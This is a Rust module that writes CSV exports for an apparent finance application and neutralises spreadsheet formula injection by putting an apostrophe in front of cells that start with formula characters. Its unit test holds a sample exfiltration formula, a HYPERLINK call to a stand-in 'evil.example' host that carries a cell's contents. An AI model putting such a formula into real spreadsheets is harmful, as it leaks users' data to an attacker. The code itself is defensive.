//! Rows of a CSV file, such that no spreadsheet takes a cell for a formula.
//!
//! A bank, a shop or whoever chose the text of a transfer decides what stands in a cell. A
//! spreadsheet runs a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return. Texts
//! that do get an apostrophe in front, which spreadsheets read as "this is text"; [`plain`] takes it
//! off again. Numbers are our own digits and stay numbers.

use std::borrow::Cow;
use std::io::{self, Write};

use coffer_domain::Money;

/// What a spreadsheet takes for the beginning of a formula. The last four are the full-width forms,
/// which some spreadsheets of East Asia take for the same.
const FORMULA: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

const MARK: char = '\'';

/// One cell.
pub(super) enum Cell<'a> {
    /// What somebody wrote, or a word of ours: never a formula.
    Text(Cow<'a, str>),
    /// Digits of ours, which may begin with a minus.
    Number(String),
}

impl<'a> Cell<'a> {
    pub(super) fn text(text: &'a str) -> Self {
        Self::Text(Cow::Borrowed(text))
    }

    pub(super) fn owned(text: impl ToString) -> Self {
        Self::Text(Cow::Owned(text.to_string()))
    }

    pub(super) fn maybe(text: Option<&'a str>) -> Self {
        Self::text(text.unwrap_or_default())
    }

    pub(super) fn flag(flag: bool) -> Self {
        Self::text(if flag { "true" } else { "false" })
    }

    /// The amount in units of its currency, with a point. An empty cell where there is none.
    pub(super) fn amount(money: Option<&Money>) -> Self {
        Self::Number(money.map(digits).unwrap_or_default())
    }

    fn written(&self) -> Cow<'_, str> {
        match self {
            Self::Text(text) => neutral(text),
            Self::Number(digits) => Cow::Borrowed(digits),
        }
    }
}

fn digits(money: &Money) -> String {
    let text = money.to_string();
    // The code of a currency may be the bank's own word; the digits before it are ours.
    let (digits, _currency) = text.split_once(' ').unwrap_or((&text, ""));
    digits.to_owned()
}

/// A text as it may stand in a cell.
pub fn neutral(text: &str) -> Cow<'_, str> {
    if looks_like_a_formula(text) {
        Cow::Owned(format!("{MARK}{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The text that [`neutral`] made a cell of.
pub fn plain(cell: &str) -> &str {
    match cell.strip_prefix(MARK) {
        Some(text) if looks_like_a_formula(text) => text,
        _ => cell,
    }
}

/// Also behind apostrophes, so that a text which has one of its own is not taken for a marked one.
fn looks_like_a_formula(text: &str) -> bool {
    text.trim_start_matches(MARK).starts_with(FORMULA)
}

/// Writes rows as RFC 4180 has them.
pub(super) struct Sheet<W: Write> {
    csv: csv::Writer<W>,
    rows: u64,
}

impl<W: Write> Sheet<W> {
    pub(super) fn begin(out: W, columns: &[&str]) -> io::Result<Self> {
        let mut csv = csv::WriterBuilder::new()
            .quote_style(csv::QuoteStyle::NonNumeric)
            .terminator(csv::Terminator::CRLF)
            .from_writer(out);
        csv.write_record(columns)?;
        Ok(Self { csv, rows: 0 })
    }

    pub(super) fn row(&mut self, cells: &[Cell<'_>]) -> io::Result<()> {
        for cell in cells {
            self.csv.write_field(cell.written().as_bytes())?;
        }
        self.csv.write_record(None::<&[u8]>)?;
        self.rows += 1;
        Ok(())
    }

    pub(super) fn end(mut self) -> io::Result<u64> {
        self.csv.flush()?;
        Ok(self.rows)
    }
}

#[cfg(test)]
mod tests {
    use coffer_domain::Currency;
    use proptest::prelude::*;

    use super::*;

    fn written(rows: &[[Cell<'_>; 2]]) -> Vec<u8> {
        let mut bytes = Vec::new();
        let mut sheet = Sheet::begin(&mut bytes, &["a", "b"]).unwrap();
        for row in rows {
            sheet.row(row).unwrap();
        }
        assert_eq!(sheet.end().unwrap(), rows.len() as u64);
        bytes
    }

    fn read(bytes: &[u8]) -> Vec<[String; 2]> {
        csv::ReaderBuilder::new()
            .from_reader(bytes)
            .records()
            .map(|record| {
                let record = record.unwrap();
                assert_eq!(record.len(), 2);
                [record[0].to_owned(), record[1].to_owned()]
            })
            .collect()
    }

    #[test]
    fn a_formula_is_a_text_and_a_debit_is_a_number() {
        let money = Money::new(-1_234, Currency::from_code("USD"));
        let link = "=HYPERLINK(\"http://evil.example/?\"&A1)";
        let bytes = written(&[[Cell::text(link), Cell::amount(Some(&money))]]);
        assert_eq!(
            String::from_utf8(bytes).unwrap(),
            "\"a\",\"b\"\r\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",-12.34\r\n"
        );
        for text in ["+1", "-1", "@SUM(A1)", "\tx", "\rx", "＝1", "'=1"] {
            assert_eq!(neutral(text), format!("'{text}"));
        }
        for text in ["", "a=b", "'til", "12", "O'Brien -"] {
            assert_eq!(neutral(text), text);
        }
    }

    proptest! {
        #[test]
        fn every_cell_comes_back_and_none_begins_a_formula(
            texts in prop::collection::vec("(['=+@\\-\t\r\n＝]{0,3})(?s:.){0,12}", 0..6)
        ) {
            let rows: Vec<[Cell<'_>; 2]> = texts
                .iter()
                .map(|text| [Cell::text(text), Cell::text("end")])
                .collect();
            let back = read(&written(&rows));
            prop_assert_eq!(back.len(), texts.len());
            for ([cell, end], text) in back.iter().zip(&texts) {
                prop_assert_eq!(plain(cell), text);
                prop_assert_eq!(end, "end");
                prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{:?}", cell);
            }
        }
    }
}
